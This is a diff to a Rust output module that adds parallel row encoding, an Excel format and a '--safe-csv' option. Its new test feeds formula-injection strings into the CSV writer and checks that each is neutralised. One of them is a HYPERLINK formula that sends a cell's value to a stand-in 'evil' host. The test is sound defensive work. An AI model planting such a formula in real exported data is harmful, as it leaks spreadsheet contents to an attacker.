@@ -1,11 +1,18 @@
 //! Rows out: CSV (through the csv crate), a JSON array, JSON Lines, or an aligned table for a
 //! terminal. Every command hands rows as `Cell`s under a fixed list of column names, so a
-//! format is one file here and a command never knows which format it writes.
+//! format is one encoder here and a command never knows which format it writes.
+//!
+//! Workers encode the rows of each input into a `Fragment` (spilling to a temporary file past
+//! a megabyte); one `Document` writes the header, the fragments in input order, and the end.
 
 mod csv;
+mod fragment;
 mod json;
 mod table;
+mod typed;
+mod xlsx;
 
+pub use fragment::Fragment;
 use std::io::{self, Write};
 
 /// One value of a row, borrowed: no allocation per cell. `None` is an empty CSV cell and a
@@ -58,6 +65,8 @@ pub enum Format {
     Jsonl,
     /// Aligned columns fitted to the terminal, with a totals line.
     Table,
+    /// An Excel workbook (binary: redirect it to a file): text is never a formula.
+    Xlsx,
 }
 
 /// The last line of a table: how much was read.
@@ -82,23 +91,162 @@ impl std::fmt::Display for Totals {
     }
 }
 
-/// Writes rows of one table (fixed columns) in one format.
-pub trait RowWriter {
-    fn row(&mut self, cells: &[Cell<'_>]) -> io::Result<()>;
-    /// Close the document (JSON array, table) and flush.
-    fn finish(&mut self, totals: &Totals) -> io::Result<()>;
+/// Encodes rows of one table in one format; each worker has its own.
+pub enum RowEncoder {
+    Csv(Box<csv::CsvEncoder>),
+    Json(json::JsonEncoder),
+    /// The table and xlsx: cells with their types.
+    Typed,
 }
 
-pub fn row_writer<'w, W: Write + 'w>(
-    format: Format,
-    columns: Vec<String>,
-    out: W,
-) -> Box<dyn RowWriter + 'w> {
-    match format {
-        Format::Csv => Box::new(csv::CsvRows::new(columns, out)),
-        Format::Json => Box::new(json::JsonRows::array(columns, out)),
-        Format::Jsonl => Box::new(json::JsonRows::lines(columns, out)),
-        Format::Table => Box::new(table::TableRows::new(columns, out, table::terminal_width())),
+impl RowEncoder {
+    /// Encode one row into `fragment`.
+    pub fn row(&mut self, cells: &[Cell<'_>], fragment: &mut Fragment) -> io::Result<()> {
+        fragment.rows += 1;
+        match self {
+            RowEncoder::Csv(c) => c.row(cells, fragment),
+            RowEncoder::Json(j) => j.row(cells, fragment),
+            RowEncoder::Typed => typed::encode_row(cells, fragment),
+        }
+    }
+}
+
+/// How rows are written.
+#[derive(Debug, Clone)]
+pub struct Layout {
+    pub format: Format,
+    pub columns: Vec<String>,
+    /// `--safe-csv`: text cells that start like a formula get a leading `'`.
+    pub safe_csv: bool,
+}
+
+impl Layout {
+    pub fn new(format: Format, columns: &[&str]) -> Layout {
+        Layout {
+            format,
+            columns: columns.iter().map(|c| c.to_string()).collect(),
+            safe_csv: false,
+        }
+    }
+
+    pub fn encoder(&self) -> RowEncoder {
+        match self.format {
+            Format::Csv => RowEncoder::Csv(Box::new(csv::CsvEncoder::new(self.safe_csv))),
+            Format::Json => RowEncoder::Json(json::JsonEncoder::new(&self.columns, true)),
+            Format::Jsonl => RowEncoder::Json(json::JsonEncoder::new(&self.columns, false)),
+            Format::Table | Format::Xlsx => RowEncoder::Typed,
+        }
+    }
+}
+
+/// The output document: its header, the rows in order, its end.
+pub struct Document<'w> {
+    layout: Layout,
+    out: Box<dyn Write + 'w>,
+    rows: u64,
+    started: bool,
+    table: Option<table::TableRows>,
+    xlsx: Option<xlsx::XlsxRows>,
+}
+
+impl<'w> Document<'w> {
+    pub fn new(layout: Layout, out: impl Write + 'w) -> Self {
+        let table = (layout.format == Format::Table)
+            .then(|| table::TableRows::new(layout.columns.clone(), table::terminal_width()));
+        Document {
+            layout,
+            out: Box::new(out),
+            rows: 0,
+            started: false,
+            table,
+            xlsx: None,
+        }
+    }
+
+    /// A document whose table, if it is one, is `width` columns wide (tests).
+    pub fn with_width(layout: Layout, out: impl Write + 'w, width: usize) -> Self {
+        let mut d = Document::new(layout, out);
+        if let Some(t) = &mut d.table {
+            *t = table::TableRows::new(d.layout.columns.clone(), width);
+        }
+        d
+    }
+
+    pub fn encoder(&self) -> RowEncoder {
+        self.layout.encoder()
+    }
+
+    /// The CSV header goes out even when there are no rows: a reader always sees the columns.
+    fn start(&mut self) -> io::Result<()> {
+        if !self.started {
+            self.started = true;
+            match self.layout.format {
+                Format::Csv => {
+                    csv::CsvEncoder::new(false).header(&self.layout.columns, &mut self.out)?
+                }
+                Format::Xlsx => self.xlsx = Some(xlsx::XlsxRows::new(self.layout.columns.clone())?),
+                _ => {}
+            }
+        }
+        Ok(())
+    }
+
+    /// The rows of `fragment`, after those already written.
+    pub fn append(&mut self, fragment: Fragment) -> io::Result<()> {
+        self.start()?;
+        if fragment.is_empty() {
+            return Ok(());
+        }
+        let first = self.rows == 0;
+        self.rows += fragment.rows;
+        match self.layout.format {
+            Format::Table | Format::Xlsx => {
+                for row in typed::decode_rows(fragment.reader()?) {
+                    let row = row?;
+                    if let Some(t) = &mut self.table {
+                        t.add(&row);
+                    }
+                    if let Some(x) = &mut self.xlsx {
+                        x.add(&row)?;
+                    }
+                }
+                Ok(())
+            }
+            // the array's first row has no separator before it
+            Format::Json if first => {
+                self.out.write_all(b"[\n")?;
+                fragment.copy_to(&mut self.out, json::ARRAY_SEPARATOR.len())
+            }
+            _ => fragment.copy_to(&mut self.out, 0),
+        }
+    }
+
+    /// One row, encoded here.
+    pub fn row(&mut self, cells: &[Cell<'_>]) -> io::Result<()> {
+        let mut fragment = Fragment::default();
+        self.encoder().row(cells, &mut fragment)?;
+        self.append(fragment)
+    }
+
+    /// Close the document (JSON array, table with its totals line) and flush.
+    pub fn finish(mut self, totals: &Totals) -> io::Result<()> {
+        self.start()?;
+        match self.layout.format {
+            Format::Json if self.rows == 0 => self.out.write_all(b"[]\n")?,
+            Format::Json => self.out.write_all(b"\n]\n")?,
+            Format::Table => {
+                if let Some(t) = &self.table {
+                    t.render(totals, &mut self.out)?;
+                }
+            }
+            Format::Xlsx => {
+                if let Some(x) = self.xlsx.take() {
+                    x.finish(&mut self.out)?;
+                }
+            }
+            Format::Csv | Format::Jsonl => {}
+        }
+        self.out.flush()
     }
 }
 
@@ -106,26 +254,29 @@ pub fn row_writer<'w, W: Write + 'w>(
 mod tests {
     use super::*;
 
-    fn columns() -> Vec<String> {
-        ["source", "line", "detail", "rate", "complete"]
-            .iter()
-            .map(|s| s.to_string())
-            .collect()
-    }
+    const COLUMNS: [&str; 5] = ["source", "line", "detail", "rate", "complete"];
 
     fn render(format: Format) -> String {
         let mut out = Vec::new();
         {
-            let mut w = row_writer(format, columns(), &mut out);
-            w.row(&[
-                Cell::Text(Some("a.log")),
-                Cell::Int(Some(7)),
-                Cell::Text(Some("+A, \"q\"")),
-                Cell::Float(Some(0.5)),
-                Cell::Bool(true),
-            ])
+            let mut d = Document::with_width(Layout::new(format, &COLUMNS), &mut out, 120);
+            // two inputs, each encoded by a worker of its own
+            let mut enc = d.encoder();
+            let mut a = Fragment::default();
+            enc.row(
+                &[
+                    Cell::Text(Some("a.log")),
+                    Cell::Int(Some(7)),
+                    Cell::Text(Some("+A, \"q\"")),
+                    Cell::Float(Some(0.5)),
+                    Cell::Bool(true),
+                ],
+                &mut a,
+            )
             .unwrap();
-            w.row(&[
+            d.append(a).unwrap();
+            d.append(Fragment::default()).unwrap();
+            d.row(&[
                 Cell::Text(Some("b.log")),
                 Cell::Int(None),
                 Cell::Text(None),
@@ -133,7 +284,7 @@ mod tests {
                 Cell::Bool(false),
             ])
             .unwrap();
-            w.finish(&Totals {
+            d.finish(&Totals {
                 files: 2,
                 runs: 3,
                 events: 4,
@@ -178,11 +329,44 @@ mod tests {
             (Format::Jsonl, ""),
         ] {
             let mut out = Vec::new();
-            row_writer(format, columns(), &mut out)
+            Document::new(Layout::new(format, &COLUMNS), &mut out)
                 .finish(&Totals::default())
                 .unwrap();
             assert_eq!(String::from_utf8(out).unwrap(), want);
         }
+    }
+
+    #[test]
+    fn safe_csv_keeps_text_from_being_a_formula() {
+        let mut out = Vec::new();
+        let mut layout = Layout::new(Format::Csv, &["detail", "count"]);
+        layout.safe_csv = true;
+        let mut d = Document::new(layout, &mut out);
+        for text in [
+            "=HYPERLINK(\"http://evil/?\"&A2,\"open\")",
+            "+SpawnProcess",
+            "-Foo",
+            "@x",
+            "\tx",
+            "ok",
+        ] {
+            d.row(&[Cell::Text(Some(text)), Cell::Int(Some(-3))])
+                .unwrap();
+        }
+        d.finish(&Totals::default()).unwrap();
+        let text = String::from_utf8(out).unwrap();
+        let cells: Vec<&str> = text.lines().skip(1).collect();
+        assert_eq!(
+            cells,
+            vec![
+                "\"'=HYPERLINK(\"\"http://evil/?\"\"&A2,\"\"open\"\")\",-3",
+                "'+SpawnProcess,-3",
+                "'-Foo,-3",
+                "'@x,-3",
+                "'\tx,-3",
+                "ok,-3",
+            ]
+        );
     }
 
     #[test]
